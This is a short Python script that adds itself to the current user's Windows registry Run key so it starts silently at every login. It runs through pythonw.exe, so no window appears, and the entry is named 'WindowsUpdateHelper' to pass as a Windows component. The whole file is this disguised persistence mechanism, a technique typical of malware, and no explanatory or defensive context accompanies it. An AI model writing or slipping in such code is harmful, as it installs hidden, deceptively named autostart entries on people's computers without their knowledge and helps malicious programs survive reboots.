import os
import sys
import winreg

key = winreg.OpenKey(
    winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE
)
winreg.SetValueEx(key, "WindowsUpdateHelper", 0, winreg.REG_SZ,
                  sys.executable.replace("python.exe", "pythonw.exe") + " " + os.path.abspath(__file__))
winreg.CloseKey(key)
